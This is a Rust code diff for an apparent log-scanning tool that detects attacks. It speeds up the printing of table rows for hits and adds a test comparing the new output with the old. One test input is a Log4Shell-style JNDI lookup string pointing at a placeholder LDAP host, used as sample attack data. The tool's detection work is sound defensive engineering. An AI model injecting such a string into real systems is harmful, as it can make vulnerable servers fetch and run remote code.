@@ -200,27 +200,67 @@ pub fn table_header() -> String {
 
 /// One table row for a hit; attacker text is escaped so it cannot drive the terminal.
 pub fn table_row(input: &str, hit: &Hit) -> String {
-    let location = format!("{input}:{}", hit.line_number);
-    let target = match (&hit.target_host, hit.target_port) {
-        (Some(host), Some(port)) => format!("{host}:{port}"),
-        (Some(host), None) => host.clone(),
-        _ => "-".to_string(),
-    };
-    let mut class = hit.class.as_str().to_string();
-    if hit.suppressed {
-        class.push_str("(supp)");
+    let mut row = String::with_capacity(192);
+    push_table_row(&mut row, input, hit);
+    row
+}
+
+/// Appends [`table_row`]'s text to `row`. The columns are padded by hand: `format!` with
+/// widths counts and pads each argument through the formatting machinery, which made
+/// printing a large part of a hunt's cost on logs full of attacks.
+pub fn push_table_row(row: &mut String, input: &str, hit: &Hit) {
+    let mut location = String::with_capacity(input.len() + 12);
+    location.push_str(input);
+    location.push(':');
+    let _ = write!(location, "{}", hit.line_number);
+    push_printable_padded(row, &location, 60, 40);
+    row.push(' ');
+    let offset_start = row.len();
+    let _ = write!(row, "{}", hit.byte_offset);
+    let digits = row.len() - offset_start;
+    if digits < 12 {
+        row.insert_str(offset_start, &" ".repeat(12 - digits));
     }
-    format!(
-        "{:<40} {:>12} {:<17} {:<6} {:<32} {:<15} {}",
-        printable(&location, 60),
-        hit.byte_offset,
-        class,
-        hit.protocol.as_ref().map_or("-", |p| p.as_str()),
-        printable(&target, 48),
-        hit.source_ip
-            .map_or_else(|| "-".to_string(), |ip| ip.to_string()),
-        printable(&hit.decoded_payload, TABLE_PAYLOAD_CHARS)
-    )
+    row.push(' ');
+    let class_start = row.len();
+    row.push_str(hit.class.as_str());
+    if hit.suppressed {
+        row.push_str("(supp)");
+    }
+    pad_from(row, class_start, 17);
+    row.push(' ');
+    let protocol_start = row.len();
+    row.push_str(hit.protocol.as_ref().map_or("-", |p| p.as_str()));
+    pad_from(row, protocol_start, 6);
+    row.push(' ');
+    match (&hit.target_host, hit.target_port) {
+        (Some(host), Some(port)) => push_printable_padded(row, &format!("{host}:{port}"), 48, 32),
+        (Some(host), None) => push_printable_padded(row, host, 48, 32),
+        _ => push_printable_padded(row, "-", 48, 32),
+    }
+    row.push(' ');
+    let source_start = row.len();
+    match hit.source_ip {
+        Some(ip) => {
+            let _ = write!(row, "{ip}");
+        }
+        None => row.push('-'),
+    }
+    pad_from(row, source_start, 15);
+    row.push(' ');
+    push_printable(row, &hit.decoded_payload, TABLE_PAYLOAD_CHARS);
+}
+
+/// Pads what was appended to `row` since `start` with spaces to `width` characters, as `{:<width}`.
+fn pad_from(row: &mut String, start: usize, width: usize) {
+    let chars = row[start..].chars().count();
+    row.extend(std::iter::repeat_n(' ', width.saturating_sub(chars)));
+}
+
+fn push_printable_padded(row: &mut String, text: &str, max_chars: usize, width: usize) {
+    let start = row.len();
+    push_printable(row, text, max_chars);
+    pad_from(row, start, width);
 }
 
 /// A hit as one JSON object with the input it was found in (`"type": "hit"`).
@@ -243,12 +283,19 @@ pub fn json_line(input: &str, hit: &Hit) -> String {
 
 /// `text` with control characters escaped, cut to `max_chars` with an ellipsis.
 pub fn printable(text: &str, max_chars: usize) -> String {
+    let mut out = String::with_capacity(text.len().min(max_chars * 2));
+    push_printable(&mut out, text, max_chars);
+    out
+}
+
+/// Appends [`printable`]'s text to `out`.
+fn push_printable(out: &mut String, text: &str, max_chars: usize) {
     // Short text without control characters (0xC2 starts the UTF-8 of U+0080..U+00BF, which
     // holds the C1 controls) is copied as it is.
     if text.len() <= max_chars && text.bytes().all(|b| b >= 0x20 && b != 0x7f && b != 0xc2) {
-        return text.to_string();
+        out.push_str(text);
+        return;
     }
-    let mut out = String::with_capacity(text.len().min(max_chars * 2));
     for (count, c) in text.chars().enumerate() {
         if count == max_chars {
             out.push('…');
@@ -260,7 +307,6 @@ pub fn printable(text: &str, max_chars: usize) -> String {
             out.push(c);
         }
     }
-    out
 }
 
 #[cfg(test)]
@@ -299,6 +345,55 @@ mod tests {
         assert_eq!(json["type"], "summary");
         assert_eq!(json["files"], 1);
         assert!(summary.to_text().contains("warning: x: broken"));
+    }
+
+    /// The row as it was first written, with `format!` widths: the hand-padded row must match.
+    fn reference_row(input: &str, hit: &Hit) -> String {
+        let location = format!("{input}:{}", hit.line_number);
+        let target = match (&hit.target_host, hit.target_port) {
+            (Some(host), Some(port)) => format!("{host}:{port}"),
+            (Some(host), None) => host.clone(),
+            _ => "-".to_string(),
+        };
+        let mut class = hit.class.as_str().to_string();
+        if hit.suppressed {
+            class.push_str("(supp)");
+        }
+        format!(
+            "{:<40} {:>12} {:<17} {:<6} {:<32} {:<15} {}",
+            printable(&location, 60),
+            hit.byte_offset,
+            class,
+            hit.protocol.as_ref().map_or("-", |p| p.as_str()),
+            printable(&target, 48),
+            hit.source_ip
+                .map_or_else(|| "-".to_string(), |ip| ip.to_string()),
+            printable(&hit.decoded_payload, TABLE_PAYLOAD_CHARS)
+        )
+    }
+
+    #[test]
+    fn rows_match_the_format_widths_for_every_corpus_line() {
+        let hunter = Hunter::default();
+        let long_name = format!("logs/{}\u{1b}/ä.log", "x".repeat(70));
+        let mut rows = 0;
+        for (i, line) in crate::hunt::corpus::generate(11, 600).iter().enumerate() {
+            for mut hit in hunter.scan_line(line.text.as_bytes()) {
+                hit.byte_offset = (i as u64).pow(3);
+                hit.suppressed = i % 5 == 0;
+                for input in ["a.log", long_name.as_str(), "-"] {
+                    assert_eq!(table_row(input, &hit), reference_row(input, &hit));
+                    rows += 1;
+                }
+            }
+        }
+        assert!(rows > 1000, "{rows}");
+        let mut odd = hit("${jndi:ldap://a.example/x}");
+        odd.target_host = Some(format!("h\u{7}ö{}", "q".repeat(60)));
+        odd.target_port = Some(1389);
+        odd.source_ip = "2001:db8::1".parse().ok();
+        odd.protocol = None;
+        assert_eq!(table_row("f", &odd), reference_row("f", &odd));
     }
 
     #[test]
